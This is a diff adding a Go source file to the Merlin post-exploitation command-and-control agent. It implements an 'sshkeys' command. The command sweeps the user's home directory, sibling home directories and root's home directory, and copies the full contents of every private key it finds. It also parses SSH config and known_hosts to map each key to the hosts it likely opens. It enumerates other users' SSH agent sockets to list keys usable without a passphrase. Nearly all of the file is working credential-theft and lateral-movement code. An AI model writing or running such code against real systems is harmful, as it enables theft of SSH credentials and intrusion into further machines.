@@ -0,0 +1,372 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"bytes"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"runtime"
+	"sort"
+	"strings"
+	"time"
+
+	// X Packages
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/agent"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// maxKeyFile is the largest file in an .ssh directory that is read when looking for private keys
+const maxKeyFile = 64 * 1024
+
+// defaultIdentities are the private key file names the SSH client tries when a host does not specify an IdentityFile
+var defaultIdentities = []string{"id_rsa", "id_ecdsa", "id_ecdsa_sk", "id_ed25519", "id_ed25519_sk", "id_dsa"}
+
+// sshHost is a Host entry from an SSH client configuration file
+type sshHost struct {
+	patterns   []string
+	hostname   string
+	user       string
+	port       string
+	identities []string
+}
+
+// SSHKeys collects private keys, authorized_keys, known_hosts, and SSH agent sockets from user home directories and
+// reports which remote hosts the keys likely access
+// sshkeys [home directory...]
+func SSHKeys(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering SSHKeys() with %+v", cmd))
+	}
+	var findings []FindingRecord
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+
+	homes := cmd.Args
+	if len(homes) == 0 {
+		homes = homeDirectories()
+	}
+	for _, home := range homes {
+		dir := filepath.Join(home, ".ssh")
+		entries, err := os.ReadDir(dir)
+		if err != nil {
+			continue
+		}
+
+		var keys []string
+		var hosts []sshHost
+		var known []string
+		for _, entry := range entries {
+			if entry.IsDir() {
+				continue
+			}
+			path := filepath.Join(dir, entry.Name())
+			switch {
+			case entry.Name() == "config":
+				hosts = sshConfig(path, home)
+				for _, host := range hosts {
+					add("config", strings.Join(host.patterns, " "), fmt.Sprintf("hostname=%s user=%s identities=%s", host.hostname, host.user, strings.Join(host.identities, ",")))
+				}
+			case strings.HasPrefix(entry.Name(), "authorized_keys"):
+				for _, key := range authorizedKeys(path) {
+					add("authorized_keys", path, key)
+				}
+			case strings.HasPrefix(entry.Name(), "known_hosts"):
+				plain, hashed := knownHosts(path)
+				known = append(known, plain...)
+				add("known_hosts", path, fmt.Sprintf("%d hosts, %d hashed: %s", len(plain)+hashed, hashed, strings.Join(plain, ", ")))
+			case strings.HasSuffix(entry.Name(), ".pub"):
+			default:
+				info, err := entry.Info()
+				if err != nil || info.Size() > maxKeyFile {
+					continue
+				}
+				data, err := os.ReadFile(path) // #nosec G304
+				if err != nil || !bytes.Contains(data, []byte("PRIVATE KEY-----")) {
+					continue
+				}
+				keys = append(keys, path)
+				add("private_key", path, privateKeyDetails(path, data))
+				add("private_key", path+" contents", string(data))
+			}
+		}
+
+		// Match the private keys to the hosts they are likely used for
+		for _, key := range keys {
+			targets := keyTargets(key, hosts, known)
+			if len(targets) > 0 {
+				add("access", key, strings.Join(targets, ", "))
+			}
+		}
+	}
+
+	for _, socket := range agentSockets() {
+		add("agent", socket, agentIdentities(socket))
+	}
+
+	if len(findings) == 0 {
+		results.Stdout = "no SSH keys, configuration files, or agent sockets were found"
+	} else {
+		results.Stdout = findingsText(findings)
+	}
+	structured = newStructured("sshkeys", findings)
+	return
+}
+
+// homeDirectories returns the agent's home directory, its siblings, and the root user's home directory
+func homeDirectories() (homes []string) {
+	seen := make(map[string]bool)
+	addHome := func(home string) {
+		if home != "" && !seen[home] {
+			seen[home] = true
+			homes = append(homes, home)
+		}
+	}
+	current, err := os.UserHomeDir()
+	if err == nil {
+		addHome(current)
+		siblings, _ := filepath.Glob(filepath.Join(filepath.Dir(current), "*"))
+		for _, sibling := range siblings {
+			addHome(sibling)
+		}
+	}
+	switch runtime.GOOS {
+	case "windows":
+	case "darwin":
+		addHome("/var/root")
+	default:
+		addHome("/root")
+	}
+	return
+}
+
+// sshConfig parses the Host entries from an SSH client configuration file and expands IdentityFile paths
+func sshConfig(path, home string) (hosts []sshHost) {
+	f, err := os.Open(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	defer f.Close()
+
+	var host *sshHost
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		key, value, found := strings.Cut(strings.Replace(line, "=", " ", 1), " ")
+		if !found {
+			continue
+		}
+		value = strings.Trim(strings.TrimSpace(value), "\"")
+		switch strings.ToLower(key) {
+		case "host":
+			hosts = append(hosts, sshHost{patterns: strings.Fields(value)})
+			host = &hosts[len(hosts)-1]
+		case "hostname":
+			if host != nil {
+				host.hostname = value
+			}
+		case "user":
+			if host != nil {
+				host.user = value
+			}
+		case "port":
+			if host != nil {
+				host.port = value
+			}
+		case "identityfile":
+			if host != nil {
+				if strings.HasPrefix(value, "~") {
+					value = filepath.Join(home, value[1:])
+				}
+				host.identities = append(host.identities, filepath.Clean(value))
+			}
+		}
+	}
+	return
+}
+
+// authorizedKeys returns the type and comment of each key in an authorized_keys file
+func authorizedKeys(path string) (keys []string) {
+	data, err := os.ReadFile(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	for len(data) > 0 {
+		key, comment, options, rest, err := ssh.ParseAuthorizedKey(data)
+		if err != nil {
+			break
+		}
+		entry := fmt.Sprintf("%s %s", key.Type(), comment)
+		if len(options) > 0 {
+			entry += fmt.Sprintf(" (%s)", strings.Join(options, ","))
+		}
+		keys = append(keys, entry)
+		data = rest
+	}
+	return
+}
+
+// knownHosts returns the plaintext host names in a known_hosts file and the number of hashed entries
+func knownHosts(path string) (plain []string, hashed int) {
+	f, err := os.Open(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	defer f.Close()
+
+	seen := make(map[string]bool)
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		fields := strings.Fields(scanner.Text())
+		if len(fields) < 2 || strings.HasPrefix(fields[0], "#") {
+			continue
+		}
+		// Skip @cert-authority and @revoked markers
+		if strings.HasPrefix(fields[0], "@") {
+			fields = fields[1:]
+		}
+		if strings.HasPrefix(fields[0], "|1|") {
+			hashed++
+			continue
+		}
+		for _, host := range strings.Split(fields[0], ",") {
+			if !seen[host] {
+				seen[host] = true
+				plain = append(plain, host)
+			}
+		}
+	}
+	sort.Strings(plain)
+	return
+}
+
+// privateKeyDetails returns the key type, if it is encrypted, and the comment from its public key file
+func privateKeyDetails(path string, data []byte) string {
+	var details string
+	signer, err := ssh.ParsePrivateKey(data)
+	var missing *ssh.PassphraseMissingError
+	switch {
+	case err == nil:
+		details = fmt.Sprintf("%s unencrypted", signer.PublicKey().Type())
+	case errors.As(err, &missing):
+		details = "encrypted"
+		if missing.PublicKey != nil {
+			details = fmt.Sprintf("%s encrypted", missing.PublicKey.Type())
+		}
+	default:
+		details = fmt.Sprintf("unparsed: %s", err)
+	}
+	if pub, err := os.ReadFile(path + ".pub"); err == nil { // #nosec G304
+		if _, comment, _, _, err := ssh.ParseAuthorizedKey(pub); err == nil && comment != "" {
+			details += fmt.Sprintf(", comment %s", comment)
+		}
+	}
+	return details
+}
+
+// keyTargets returns the hosts a private key is likely used for. Hosts that name the key as an IdentityFile are used
+// first, default key names are also used for configured hosts without an IdentityFile and plaintext known_hosts entries
+func keyTargets(key string, hosts []sshHost, known []string) (targets []string) {
+	seen := make(map[string]bool)
+	addTarget := func(target string) {
+		if !seen[target] {
+			seen[target] = true
+			targets = append(targets, target)
+		}
+	}
+	isDefault := false
+	for _, name := range defaultIdentities {
+		if filepath.Base(key) == name {
+			isDefault = true
+		}
+	}
+	for _, host := range hosts {
+		target := host.hostname
+		if target == "" {
+			target = strings.Join(host.patterns, " ")
+		}
+		if host.user != "" {
+			target = fmt.Sprintf("%s@%s", host.user, target)
+		}
+		for _, identity := range host.identities {
+			if identity == key {
+				addTarget(target)
+			}
+		}
+		if isDefault && len(host.identities) == 0 && target != "*" {
+			addTarget(target)
+		}
+	}
+	if isDefault {
+		for _, host := range known {
+			addTarget(host)
+		}
+	}
+	return
+}
+
+// agentSockets returns the SSH agent socket from the agent's environment and any other agent sockets in /tmp
+func agentSockets() (sockets []string) {
+	if socket := os.Getenv("SSH_AUTH_SOCK"); socket != "" {
+		sockets = append(sockets, socket)
+	}
+	if runtime.GOOS == "windows" {
+		return
+	}
+	matches, _ := filepath.Glob("/tmp/ssh-*/agent.*")
+	for _, match := range matches {
+		if match != os.Getenv("SSH_AUTH_SOCK") {
+			sockets = append(sockets, match)
+		}
+	}
+	return
+}
+
+// agentIdentities connects to an SSH agent socket and lists the keys it holds, which can be used without a passphrase
+func agentIdentities(socket string) string {
+	conn, err := net.DialTimeout("unix", socket, 5*time.Second)
+	if err != nil {
+		return fmt.Sprintf("not accessible: %s", err)
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
+	keys, err := agent.NewClient(conn).List()
+	if err != nil {
+		return fmt.Sprintf("there was an error listing keys: %s", err)
+	}
+	var identities []string
+	for _, key := range keys {
+		identities = append(identities, fmt.Sprintf("%s %s", key.Type(), key.Comment))
+	}
+	return fmt.Sprintf("%d keys: %s", len(keys), strings.Join(identities, ", "))
+}